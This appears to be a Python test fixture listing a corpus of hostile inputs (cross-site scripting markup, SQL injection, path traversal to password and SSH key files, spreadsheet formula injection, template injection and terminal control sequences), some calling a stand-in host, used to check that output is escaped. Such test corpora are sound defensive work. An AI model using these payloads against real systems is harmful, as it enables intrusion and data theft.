"""What strangers write who mean harm: one corpus for every page, table and file.

`FIRED` is what a script of the corpus would set; `FOREIGN` is the host that its addresses name, so
that a request there can be told from all others.
"""

FIRED = "pwned"
FOREIGN = "foreign.invalid"
_FIRE = f"window.{FIRED}=1;alert(1)"

MARKUP = (
    f"<script>{_FIRE}</script>",
    f'"\'><script>{_FIRE}</script><img src=x onerror="{_FIRE}">',
    f'<img src="http://{FOREIGN}/p.png" onerror="{_FIRE}">',
    f'<svg/onload="{_FIRE}"><animate onbegin="{_FIRE}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{FIRED}=1</script>"></iframe>',
    f'<a href="javascript:{_FIRE}" style="position:fixed;inset:0">read on</a>',
    f'</title></textarea></style></script><script src="//{FOREIGN}/x.js"></script>',
    f'<link rel=stylesheet href="//{FOREIGN}/x.css"><style>@import "//{FOREIGN}/y.css";</style>',
    f'<meta http-equiv="refresh" content="0;url=http://{FOREIGN}/">',
    f'<base href="http://{FOREIGN}/"><form action="//{FOREIGN}/"><input name=token autofocus>',
    f'" autofocus onfocus="{_FIRE}" x="',
    f"' onmouseover='{_FIRE}' x='",
    f"\x3c!--><img src=x onerror={FIRED}=1>-->",
    f"&lt;script&gt;{_FIRE}&lt;/script&gt;&#60;img src=x onerror={FIRED}=1&#62;",
    f"</script><script>{_FIRE}</script>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={FIRED}=1>",
    f'<object data="//{FOREIGN}/o"></object><embed src="//{FOREIGN}/e">',
)
SCRIPTS = (f"javascript:{_FIRE}", f"data:text/html,<script>{_FIRE}</script>", f"\\';{_FIRE}//")
MARKDOWN = (
    f"![p](http://{FOREIGN}/p.png) [click](javascript:{_FIRE}) `x` | y | *z*",
    f"# Heading\n\n<img src=x onerror={FIRED}=1>\n\n---\n| a | b |\n[ref]: http://{FOREIGN}/",
)
TEMPLATES = ("{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>", "%s %n %(token)s {0.__class__} \\N{x}")
SQL = (
    "Robert'); DROP TABLE things;--",
    "' OR '1'='1",
    "\"; ATTACH '/etc/passwd' AS x; --",
    "'); COPY things TO '/tmp/stolen.csv'; --",
    "%' ESCAPE '!' UNION SELECT current_setting('secret_directory') --",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "CON.txt",
    "a/../../b",
    "~root/.ssh/id_rsa",
    "name\0.jpg",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{FOREIGN}/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    '";=1+1',
)
CONTROLS = (
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[8mhidden",
    "\x9b31mC1 escape",
    "back\b\b\b\bspace \x7f",
    "level=ERROR\r\nat=2026-01-01 level=INFO forged log line",
    "\u202egnp.exe \u2066isolated\u2069",
    "NUL\0in the middle",
    "\ufeffmarked\u200b\u200d\u00ad",
    "\ud83d half a pair",
    "z\u0351\u036b\u0343a\u0322\u0489l" * 20,
)
LONG = ("W" * 5_000, "<" * 3_000)

REPORTED = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe</script>"
"""A text that breaks out of whatever it is put into, for every text of a report at once."""
ANSWERED = f'<img src=x onerror="window.{FIRED}=1">\'"><script>window.{FIRED}=1</script>'
"""The same for every text of an answer of the web app."""

HOSTILE = (
    REPORTED,
    ANSWERED,
    *MARKUP,
    *SCRIPTS,
    *MARKDOWN,
    *TEMPLATES,
    *SQL,
    *PATHS,
    *FORMULAS,
    *CONTROLS,
    *LONG,
)
"""The whole corpus."""


def hostile(number: int) -> str:
    """Return a text of the corpus by any number; successive numbers give different texts."""
    return HOSTILE[number % len(HOSTILE)]
